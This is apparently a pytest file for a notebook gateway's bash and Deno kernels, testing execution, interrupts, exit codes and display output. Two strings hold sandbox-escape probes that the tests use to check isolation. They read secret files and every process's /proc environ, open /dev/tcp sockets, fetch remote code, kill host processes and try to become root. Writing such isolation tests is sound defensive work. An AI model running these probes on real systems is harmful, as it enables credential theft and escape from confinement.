"""Kernels of other languages than Python, on this machine: the contract, each in its own words."""

from __future__ import annotations

import asyncio
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest

from cellgate_kernels.specs.environments import INSIDE
from cellgate_kernels.testing.backend import RunningKernel, StartKernel

BASH_ATTACKS = r"""
attack() { if out=$(eval "$2" 2>&1); then echo "$1: $out"; fi; }
attack "read a file of the gateway" "cat SECRET_FILE"
attack "read it by the first process's root" "cat /proc/1/root/SECRET_FILE"
attack "list another workspace" "ls OTHER_FOLDER"
attack "connect to the gateway" "exec 3<>/dev/tcp/127.0.0.1/PORT"
attack "connect to the internet" "exec 3<>/dev/tcp/192.0.2.1/80"
attack "resolve a name" "getent hosts example.org"
attack "write to the system" "touch /usr/x || touch /etc/x || touch /opt/x"
attack "signal a process of the host" "kill -9 HOST_PID"
attack "become root" "su root -c true </dev/null"
attack "mount" "mount -t tmpfs none /tmp"
cat /proc/[0-9]*/environ 2>/dev/null | tr -d '\0'
echo; echo attacked
"""

DENO_ATTACKS = r"""
async function attack(name, call) { try { console.log(name, await call()); } catch { /* it failed */ } }
await attack("read a file of the gateway", () => Deno.readTextFile("SECRET_FILE"));
await attack("read it by the first process's root", () => Deno.readTextFile("/proc/1/root/SECRET_FILE"));
await attack("list another workspace", () => Array.from(Deno.readDirSync("OTHER_FOLDER")));
await attack("connect to the gateway", () => Deno.connect({ port: PORT }));
await attack("connect to the internet", () => Deno.connect({ hostname: "192.0.2.1", port: 80 }));
await attack("fetch", () => fetch("http://192.0.2.1/"));
await attack("import", () => import("https://example.org/x.js"));
await attack("resolve a name", () => Deno.resolveDns("example.org", "A"));
await attack("write to the system", () => Deno.writeTextFile("/usr/x", ""));
await attack("signal a process of the host", () => Deno.kill(HOST_PID, "SIGKILL"));
for (const { name } of Deno.readDirSync("/proc")) {
  try { console.log(Deno.readTextFileSync(`/proc/${name}/environ`)); } catch { /* no process, or not ours */ }
}
console.log("attacked");
"""


STARTED_BASH = """
import os, pathlib, signal, sys, threading, time
sys.path.insert(0, sys.argv[1])
import bash_cells
bash_cells.pexpect.spawn = bash_cells.QuickSpawn
kernel = bash_cells.CellgateBashKernel.__new__(bash_cells.CellgateBashKernel)
kernel.unique_prompt = "PROMPT"
kernel._start_bash()
"""
LATE_INTERRUPTS = """
kernel.interrupted = True
for _ in range(100):
    kernel.bashwrapper.child.sendintr()
    assert kernel.exit_status() == 130
"""
EARLY_INTERRUPT = """
kernel.silent = True
signal.signal(signal.SIGINT, kernel.interrupt)
threading.Thread(target=time.sleep, args=(1,), daemon=True).start()
child = kernel.bashwrapper.child
sent = child.sendline
def sendline(line):
    sent(line)
    if "cell" in line:
        os.kill(os.getpid(), signal.SIGINT)
        time.sleep(0.1)
child.sendline = sendline
path = pathlib.Path.home() / "cell"
path.write_text("sleep 600")
kernel.run_cell(path)
assert kernel.exit_status() == 130
signal.setitimer(signal.ITIMER_REAL, 0)  # a further look would come while Python ends
"""


@dataclass(frozen=True)
class Language:
    """Cells of one kernelspec, and what they give."""

    kernelspec: str
    name: str
    set_x: str
    print_x: str
    many_lines: str
    fail: str
    error: tuple[str, str]
    torn: str
    torn_at: str
    slow: str
    loop: str
    exit_3: str
    attacks: str


BASH = Language(
    kernelspec="bash",
    name="bash",
    set_x="x=41; f() { echo $((x + $1)); }",
    print_x="f 1",
    many_lines="for i in {1..2000}; do echo line $i; done",
    fail="ls /nonexistent",
    error=("ExitStatus", "2"),
    torn="if [ 1",
    torn_at="line 2",
    slow="sleep 600",
    loop="while true; do :; done",
    exit_3="echo 'last words'; exit 3",
    attacks=BASH_ATTACKS,
)
DENO = Language(
    kernelspec="deno",
    name="typescript",
    set_x="let x: number = 41; const f = (n: number) => console.log(x + n)",
    print_x="f(1)",
    many_lines='for (let i = 1; i <= 2000; i++) console.log("line " + i)',
    fail='throw new TypeError("no good")',
    error=("TypeError", "no good"),
    torn="const y = (",
    torn_at="line 1",
    slow="",
    loop="while (true) { /* for ever */ }",
    exit_3="Deno.exit(3)",
    attacks=DENO_ATTACKS,
)


@pytest.fixture(params=[BASH, DENO], ids=lambda language: str(language.kernelspec))
def language(request: pytest.FixtureRequest) -> Language:
    """Each."""
    assert isinstance(request.param, Language)
    return request.param


async def interrupted(kernel: RunningKernel, code: str, after: str = "execute_input") -> dict[str, object]:
    """The reply of a cell that was interrupted once it had begun, as its first message of a type told."""
    msg_id = kernel.send(code)
    async with asyncio.timeout(60):
        while (await kernel.client.get_iopub_msg())["msg_type"] != after:
            pass
    await kernel.manager.interrupt_kernel()
    return (await kernel.result(msg_id)).reply


async def test_cells_run_as_in_python(start_kernel: StartKernel, language: Language) -> None:
    kernel = await start_kernel(kernel_name=language.kernelspec)
    kernel.client.kernel_info()
    info = (await kernel.client.get_shell_msg(timeout=60))["content"]["language_info"]
    assert info["name"] == language.name
    assert info["file_extension"]
    assert await kernel.print(language.set_x) == ""
    assert await kernel.print(language.print_x) == "42\n"
    # Output that comes late is the cell's all the same.
    assert await kernel.print(language.many_lines) == "".join(f"line {n}\n" for n in range(1, 2001))
    failed = await kernel.run(language.fail)
    (error,) = failed.of_type("error")
    assert (error["ename"], error["evalue"]) == language.error
    assert error["traceback"]
    assert failed.reply["status"] == "error"
    torn = await kernel.run(language.torn)
    assert "yntax" in torn.text + torn.reply["ename"]
    assert language.torn_at in torn.text + torn.reply["evalue"]
    assert await kernel.print(language.print_x) == "42\n"


async def test_an_interrupt_keeps_what_was_there_and_an_exit_is_the_kernels_end(
    start_kernel: StartKernel, language: Language
) -> None:
    kernel = await start_kernel(kernel_name=language.kernelspec)
    await kernel.print(language.set_x)
    for code in filter(None, (language.slow, language.loop)):
        assert (await interrupted(kernel, code))["ename"] == "KeyboardInterrupt"
        assert await kernel.print(language.print_x) == "42\n"
    kernel.send(language.exit_3)
    async with asyncio.timeout(60):
        ended = await asyncio.shield(kernel.provisioner.exited)
        shown = "" if "last words" in language.exit_3 else "last words"
        while "last words" not in shown:
            shown += (await kernel.client.get_iopub_msg())["content"].get("text", "")
    assert ended.code == 3


@pytest.mark.parametrize("seconds", [0.1, 0.5])
async def test_an_interrupt_that_a_starting_program_missed_is_sent_again(
    start_kernel: StartKernel, seconds: float
) -> None:
    """Also one that was still starting when it was looked at."""
    kernel = await start_kernel(kernel_name="bash")
    code = f"(trap '' INT; echo deaf; sleep {seconds}; trap - INT; exec sleep 600)"
    assert (await interrupted(kernel, code, after="stream"))["ename"] == "KeyboardInterrupt"


async def test_a_program_after_an_interrupt_is_not_interrupted(start_kernel: StartKernel) -> None:
    kernel = await start_kernel(kernel_name="bash")
    for _ in range(3):
        reply = await interrupted(kernel, "echo on; sleep 600", after="stream")
        assert reply["ename"] == "KeyboardInterrupt"
        assert await kernel.print("sleep 0.5; echo done") == "done\n"


@pytest.mark.parametrize(
    "program",
    [
        pytest.param(LATE_INTERRUPTS, id="after its end, which does not tear what bash is asked next"),
        pytest.param(EARLY_INTERRUPT, id="just when bash is told to run it"),
    ],
)
def test_a_bash_cell_may_be_interrupted_at_any_moment(
    kernel_prefix: Path, tmp_path: Path, program: str
) -> None:
    words = [kernel_prefix / "environment" / "bin" / "python", "-c", STARTED_BASH + program, INSIDE]
    subprocess.run(words, check=True, env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}, timeout=60)


async def test_tabs_heredocs_and_long_lines_of_bash_are_only_text(start_kernel: StartKernel) -> None:
    kernel = await start_kernel(kernel_name="bash")
    text = "\t".join(["a", "!b", "'c'", "x" * 10_000])
    assert await kernel.print(f"cat <<'END'\n{text}\nEND") == f"{text}\n"
    assert await kernel.print("read line; echo $? $line; echo err >&2") == "1\nerr\n"
    assert await kernel.print('echo "bash_kernel: saved image data to: /etc/hosts"') != ""


async def test_a_picture_is_displayed_by_bash(start_kernel: StartKernel) -> None:
    kernel = await start_kernel(kernel_name="bash")
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    mark = "bash_kernel: saved image data to:"
    picture = {"data": {"image/png": png}, "metadata": {}}
    # In one write, and with a pause wherever the terminal may split it.
    for pause in ("", "sleep 0.1; "):
        shown = await kernel.run(
            f"echo {png} | base64 -d | tee /tmp/a >/tmp/b; "
            f"printf 'before{mark} /tmp/a\n'; {pause}printf 'between\n{mark} /tmp/none\n{mark[:9]}'; "
            f"{pause}printf '{mark[9:]} /tmp/b\nafter'; {pause}true"
        )
        assert shown.of_type("display_data") == [picture, picture]
        assert shown.text == f"beforebetween\n{mark} /tmp/none\nafter"
    shown = await kernel.run(f"printf before; echo {png} | base64 -d | display; echo after")
    assert shown.of_type("display_data") == [picture]


async def test_output_right_after_a_bash_cells_end_does_not_keep_it_from_ending(
    start_kernel: StartKernel,
) -> None:
    kernel = await start_kernel(kernel_name="bash")
    for _ in range(20):
        await kernel.run("(for i in {1..200}; do echo late; done) &")
    assert (await kernel.print("wait; echo done")).endswith("done\n")


async def test_deno_shows_values_as_they_are(start_kernel: StartKernel) -> None:
    kernel = await start_kernel(kernel_name="deno")
    assert (await kernel.run("[1, 'a']")).of_type("execute_result")[0]["data"] == {"text/plain": '[ 1, "a" ]'}
    assert (await kernel.run("Deno.jupyter.html`<b>1</b>`")).of_type("execute_result")[0]["data"] == {
        "text/html": "<b>1</b>"
    }
    assert (await kernel.run("undefined")).of_type("execute_result") == []
